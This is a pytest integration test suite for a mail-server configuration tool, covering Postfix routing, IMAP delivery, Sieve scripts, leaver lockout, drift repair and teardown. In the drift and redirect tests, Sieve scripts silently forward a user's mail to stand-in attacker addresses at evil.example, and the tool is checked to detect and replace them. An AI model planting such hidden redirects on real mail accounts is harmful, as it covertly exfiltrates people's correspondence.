"""Through a living Postfix into living mailboxes, read by IMAP; then drift, repair and taking it all away."""

from __future__ import annotations

import base64
import datetime as dt
import imaplib
import smtplib
import time
from collections.abc import Iterator

import pytest

from mailwright.hosts.mail import dovecot, postfix, sieve
from mailwright.hosts.mail.managesieve import ManageSieveError, Session
from mailwright.model.mailboxes import Mailboxes
from mailwright.plan.mailboxes.message import read
from mailwright.plan.mailboxes.trace import trace
from tests.mailboxes.live import PEOPLE, Live, running
from tests.mailboxes.specs import DOMAIN, mailboxes

STAFF = tuple(each for each in PEOPLE if each != "zhao")
TODAY = dt.datetime.now(dt.UTC).date()
COMPANY = f"""\
people:
  wang: {{name: 老王}}
  li: {{name: 小李}}
  chen: {{}}
  zhao: {{left: {TODAY - dt.timedelta(9)}, handover: {{to: li, until: {TODAY + dt.timedelta(9)}}}}}
  old: {{left: {TODAY - dt.timedelta(9)}, closed: {TODAY - dt.timedelta(8)}}}
addresses:
  info: {{to: wang}}
  sales: {{to: [wang, li], owner: wang}}
  support: {{to: li, shared: true}}
  agent: {{to: [li, agent@partner.example]}}
  fair: {{to: chen}}
rules:
  - {{for: info, when: {{subject_contains: ["product A", "产品A"]}}, then: {{assign_to: wang}}}}
  - {{for: info, when: {{body_contains: [quote, 报价]}}, then: {{tag: 高意向, copy_to: wang}}}}
  - {{for: info, otherwise: true, then: {{assign_to: li}}}}
  - {{for: support, when: {{subject_contains: urgent}}, then: {{tag: hot, notify: chen, folder: Urgent}}}}
  - {{for: sales, when: {{from: bank.example}}, then: {{assign_to: chen}}}}
auto_replies:
  - {{for: fair, text: "Thank you. 谢谢", subject: We have got your mail}}
"""


@pytest.fixture(scope="module")
def made() -> Mailboxes:
    return mailboxes(COMPANY, TODAY)


@pytest.fixture(scope="module")
def live(made: Mailboxes) -> Iterator[Live]:
    with running(made) as server:
        assert server.apply(made) > 0
        assert server.apply(made) == 0, "a second run changes nothing"
        yield server


B64 = base64.b64encode("产品A".encode()).decode()
GBK = base64.b64encode("产品A".encode("gbk")).decode()
MAILS = [
    ("wang", "hello", "hi"),
    ("li", "hello", "hi"),
    ("wang+fair", "hello", "hi"),
    ("info", "about product A", "hi"),
    ("info", f"=?utf-8?b?{B64}?= please", "hi"),
    ("info", f"=?gbk?b?{GBK}?=", "hi"),
    ("info", "产品A raw", "hi"),
    ("info", "hello", "please QUOTE"),
    ("info", "hello", "请报价"),
    ("info", "hello", "hi"),
    ("info+web", "hello", "hi"),
    ("info", "product\u00a0A", "hi"),
    ("sales", "hello", "hi"),
    ("sales+x", "hello", "quote"),
    ("support", "urgent", "hi"),
    ("support", "hello", "hi"),
    ("agent", "hello", "hi"),
    ("zhao", "hello", "hi"),
    ("postmaster", "hello", "hi"),
    ("abuse", "hello", "hi"),
]


def message(number: int, to: str, subject: str, body: str, sender: str = "buyer@outside.test") -> bytes:
    head = f"From: {sender}\r\nTo: {to}@{DOMAIN}\r\nMessage-ID: <m{number}@outside.test>\r\n"
    head += f"Subject: {subject}\r\n"
    return (head + f"Content-Type: text/plain; charset=utf-8\r\n\r\n{body}\r\n").encode()


def test_mail_ends_where_the_trace_says(live: Live, made: Mailboxes) -> None:
    mails = [(*each, "buyer@outside.test") for each in MAILS]
    mails += [(to, "hello", "hi", "cfo@bank.example") for to in ("sales", "info", "wang", "support", "agent")]
    mails += [
        (to, "product A", "quote", "cfo@bank.example") for to in ("sales", "info", "zhao", "support", "fair")
    ]
    for number, (to, subject, body, sender) in enumerate(mails):
        live.send(f"{to}@{DOMAIN}", message(number, to, subject, body, sender), sender)
    live.settle()
    for number, (to, subject, body, sender) in enumerate(mails):
        story = trace(made, read(message(number, to, subject, body, sender), f"{to}@{DOMAIN}"))
        wanted = {reached.address: set(reached.folders) for reached in story.reached if not reached.outside}
        found = {f"{name}@{DOMAIN}": live.inbox(name, f"<m{number}@outside.test>") for name in STAFF}
        assert {who: set(where) for who, where in found.items() if where} == wanted, mails[number]
        tags = {tag for reached in story.reached for tag in reached.tags}
        assert tags <= {flag for where in found.values() for flags in where.values() for flag in flags}
    assert "agent@partner.example" in live.sink.got


def test_closed_and_unknown_addresses_are_refused(live: Live) -> None:
    for to, code in (("old", b"5.2.1"), ("nobody", b"5.1.1")):
        with pytest.raises(smtplib.SMTPRecipientsRefused) as refused:
            live.send(f"{to}@{DOMAIN}", message(900, to, "x", "x"))
        ((status, said),) = refused.value.recipients.values()
        assert status == 550 and code in said


def test_an_alias_answers_by_itself_and_a_leaver_is_answered_for(live: Live) -> None:
    for number, to in ((910, "fair"), (911, "zhao")):
        live.send(
            f"{to}@{DOMAIN}",
            message(number, to, "hello", "hi", f"s{number}@outside.test"),
            f"s{number}@outside.test",
        )
    live.settle()
    assert {"s910@outside.test", "s911@outside.test"} <= set(live.sink.got)


def may_log_in(live: Live, name: str, wanted: bool) -> bool:
    """Dovecot looks at the file again after a second or so."""
    end = time.monotonic() + 15
    while time.monotonic() < end:
        try:
            live.inbox(name, "<x@x>")
        except imaplib.IMAP4.error:
            allowed = False
        else:
            allowed = True
        if allowed == wanted:
            break
        time.sleep(0.2)
    return allowed


def test_who_left_cannot_log_in_and_may_again_once_the_spec_says_so(live: Live, made: Mailboxes) -> None:
    assert not may_log_in(live, "zhao", False) and may_log_in(live, "li", True)
    other = mailboxes(COMPANY.replace("zhao: {left", "zhou: {left"), TODAY)
    for _ in range(3):  # the tables are of one size, and come within a second
        live.apply_tables(other)
        assert may_log_in(live, "zhao", True)
        live.apply_tables(made)
        assert not may_log_in(live, "zhao", False)


def test_a_bad_script_is_refused_with_the_servers_word_and_the_old_one_stays(live: Live) -> None:
    with Session(live.login("wang")) as session:
        before = dovecot.read(session, f"wang@{DOMAIN}")
        todo = dovecot.ScriptChange(f"wang@{DOMAIN}", before.ours, "redirect;\r\n", None)
        with pytest.raises(ManageSieveError, match="line 1"):
            dovecot.apply(session, todo)
        assert dovecot.read(session, f"wang@{DOMAIN}") == before
        with pytest.raises(ManageSieveError, match="x-none"):
            dovecot.apply(
                session, dovecot.ScriptChange(f"wang@{DOMAIN}", None, 'require "x-none";\r\n', None)
            )


def test_drift_is_found_and_repaired_and_what_is_not_ours_stays(live: Live, made: Mailboxes) -> None:
    aliases = live.tables / postfix.ALIASES
    hand = "# by hand\nprinter@other.example  wang@acme-trade.com\n"
    text = aliases.read_text().replace("li@", "chen@")
    aliases.write_text(hand + text)
    with Session(live.login("li")) as session:
        session.put("holiday", "keep;\r\n")
        session.put(sieve.NAME, 'redirect "evil@evil.example";\r\n')
        session.activate("holiday")
        assert dovecot.read(session, f"li@{DOMAIN}").active == "holiday"
    assert live.apply(made) >= 2 and live.apply(made) == 0
    assert aliases.read_text().startswith(hand) and "chen@acme-trade.com, " not in aliases.read_text()
    with Session(live.login("li")) as session:
        seen = dovecot.read(session, f"li@{DOMAIN}")
        assert seen.active == sieve.NAME and seen.kept == "holiday"
    live.send(f"li@{DOMAIN}", message(920, "li", "hello", "hi"))
    live.settle()
    assert live.inbox("li", "<m920@outside.test>")


def test_redirects_that_no_spec_knows_are_seen(live: Live) -> None:
    with Session(live.login("chen")) as session:
        session.put("quiet", 'require "copy";\r\nredirect :copy "thief@evil.example";\r\n')
        assert dovecot.read(session, f"chen@{DOMAIN}").redirects() == (("quiet", "thief@evil.example"),)
        session.delete("quiet")


def test_destroy_gives_everything_back(live: Live, made: Mailboxes) -> None:
    own = {"wang": "mine", "li": "holiday"}
    for name, script in own.items():
        with Session(live.login(name)) as session:
            session.put(script, "keep;\r\n")
            session.activate(script)
    live.apply(made)
    live.apply(None)
    for name in STAFF:
        with Session(live.login(name)) as session:
            seen = dovecot.read(session, f"{name}@{DOMAIN}")
            assert seen.ours is None and seen.active == own.get(name)
    assert not any("mailwright" in path.read_text() for path in live.tables.iterdir())
    assert live.apply(made) > 0
